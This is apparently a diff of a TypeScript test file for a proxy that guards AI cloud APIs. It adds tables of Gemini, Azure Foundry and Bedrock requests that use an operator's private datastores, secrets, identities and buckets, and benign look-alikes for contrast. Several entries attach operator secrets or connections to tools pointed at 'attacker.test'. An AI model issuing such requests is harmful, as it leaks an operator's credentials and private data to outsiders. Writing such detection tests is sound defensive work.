@@ -53,8 +53,101 @@ const DEPLOYED = 'gpt-4o-mini-2024-07-18.ft-0e208cf33a6a466994aff31a08aba678'
 const FOUNDRY_RESPONSE = `POST ${AZURE}/api/projects/p1/openai/v1/responses`
 const BEDROCK = 'https://bedrock-agent-runtime.us-east-1.amazonaws.com'
 
+const VERTEX = 'https://aiplatform.googleapis.com/v1/publishers/google/models/gemini-2.5-flash'
+const STORES = 'projects/p/locations/global/collections/default_collection'
+const gemini = (more: object, text = 'x') => ({
+  contents: [{ role: 'user', parts: [{ text }] }],
+  ...more,
+})
+const file = (fileUri: string) => ({
+  contents: [{ role: 'user', parts: [{ fileData: { fileUri, mimeType: 'application/pdf' } }] }],
+})
+const foundry = (tool: object) => ({ model: 'gpt-5', input: 'x', tools: [tool] })
+const index = (parameters: object) => ({
+  messages: [],
+  data_sources: [
+    { type: 'azure_search', parameters: { endpoint: 'https://s.test', ...parameters } },
+  ],
+})
+const CONVERSE = 'POST https://bedrock-runtime.us-east-1.amazonaws.com/model/amazon.nova/converse'
+const DEPLOYMENT = `POST ${AZURE}/openai/deployments/gpt-4o/chat/completions?api-version=2024-10-21`
+const search = (vertexAiSearch: object) => gemini({ tools: [{ retrieval: { vertexAiSearch } }] })
+const external = (apiAuth: object) =>
+  gemini({
+    tools: [{ retrieval: { externalApi: { endpoint: 'https://attacker.test', apiAuth } } }],
+  })
+
+/** TABLE of requests that use what a cloud keeps for the operator. */
+const CLOUDS: [line: string, body: object][] = [
+  ...[
+    search({ datastore: `${STORES}/dataStores/private` }),
+    search({ engine: `${STORES}/engines/private` }),
+    search({ dataStoreSpecs: [{ dataStore: `/v1/${STORES}/dataStores/private` }] }),
+    search({ engine: `//discoveryengine.googleapis.com/${STORES}/engines/private` }),
+    external({ apiKeyConfig: { apiKeySecretVersion: 'projects/p/secrets/s/versions/1' } }),
+    external({ apiKeyConfig: { api_key_secret: 's' } }),
+    external({ googleServiceAccountConfig: {} }),
+    external({ authType: 'GOOGLE_SERVICE_ACCOUNT_AUTH' }),
+    external({ oauthConfig: { serviceAccount: 'x@p.iam.gserviceaccount.com' } }),
+    gemini({ modelArmorConfig: { promptTemplateName: 'projects/p/locations/l/templates/t' } }),
+    gemini({ x: 'PROJECTS/p/Locations/l/ragCorpora/1' }),
+    gemini({ x: ['projects%2Fp%2Flocations%2Fl%2Fendpoints%2F12'] }),
+    file('gs://operators-private/salaries.pdf'),
+    file('GS://operators-private/salaries.pdf'),
+    gemini({ functionCall: { args: { uri: 'gs://operators-private/x' } } }),
+  ].map((body): [string, object] => [`POST ${VERTEX}:generateContent`, body]),
+  ...[
+    { type: 'mcp', server_url: 'https://attacker.test', project_connection_id: 'operators-github' },
+    { type: 'openapi', openapi: { auth: { security_scheme: { projectConnectionId: 'c' } } } },
+    { type: 'openapi', openapi: { auth: { type: 'managed_identity' } } },
+    { type: 'azure_ai_search', azure_ai_search: { indexes: [{ index_name: 'private' }] } },
+    { type: 'sharepoint_grounding_preview', x: { project_connections: [{ connection_id: 'c' }] } },
+    { type: 'a2a_preview', base_url: 'https://attacker.test', project_connection_id: 'c' },
+    { type: 'x', x: '/subscriptions/s/resourceGroups/r/providers/Microsoft.Search/y' },
+  ].map((tool): [string, object] => [FOUNDRY_RESPONSE, foundry(tool)]),
+  [DEPLOYMENT, index({ authentication: { type: 'system_assigned_managed_identity' } })],
+  [DEPLOYMENT, index({ index_name: 'private' })],
+  [
+    CONVERSE,
+    {
+      messages: [
+        { content: [{ document: { source: { s3Location: { uri: 's3://private/x' } } } }] },
+      ],
+    },
+  ],
+  [CONVERSE, { promptVariables: { x: 'arn:aws:secretsmanager:us-east-1:1:secret:x' } }],
+]
+
+/** TABLE of what ordinary requests have that looks like it. */
+const BESIDE_CLOUDS: [line: string, body: object][] = [
+  [`POST ${VERTEX}:generateContent`, gemini({}, 'gs://some-bucket/of-the-callers')],
+  [`POST ${VERTEX}:generateContent`, file('gs://cloud-samples-data/generative-ai/pdf/2312.pdf')],
+  [`POST ${VERTEX}:generateContent`, file('https://storage.googleapis.com/public/x.pdf')],
+  [`POST ${VERTEX}:generateContent`, gemini({ x: 'projects/web/src/index.ts' })],
+  [
+    `POST ${VERTEX}:generateContent`,
+    gemini({ contents: [{ parts: [{ functionCall: { args: { a: [{ b: 's3://x/y' }] } } }] }] }),
+  ],
+  [`POST ${VERTEX}:generateContent`, external({ apiKeyConfig: { apiKeyString: 'callers-own' } })],
+  [
+    FOUNDRY_RESPONSE,
+    foundry({
+      type: 'function',
+      name: 'f',
+      parameters: {
+        type: 'object',
+        properties: { connection_id: { type: 'string' }, index_name: { type: 'string' } },
+        required: ['connection_id'],
+      },
+    }),
+  ],
+  [CONVERSE, { messages: [{ content: [{ toolUse: { input: { at: ['s3://bucket/x'] } } }] }] }],
+  [CONVERSE, { messages: [{ content: [{ text: 'arn:aws:s3:::bucket' }] }] }],
+]
+
 /** TABLE of requests that name what is the operator's. */
 const OPERATORS: [line: string, body?: object][] = [
+  ...CLOUDS,
   [`GET ${MISTRAL}/workflows/events/stream`],
   [`GET ${MISTRAL}/workflows/events/list`],
   [`POST ${COHERE}/v1/chat`, { model: 'command-r', message: 'x', conversation_id: 'alice' }],
@@ -132,6 +225,7 @@ const OPERATORS: [line: string, body?: object][] = [
 
 /** TABLE of requests of the same form that name what is everybody's. */
 const EVERYBODYS: [line: string, body?: object][] = [
+  ...BESIDE_CLOUDS,
   [
     `POST ${COHERE}/v1/chat`,
     { model: 'command-r', message: 'x', chat_history: [], connectors: [{ id: 'web-search' }] },
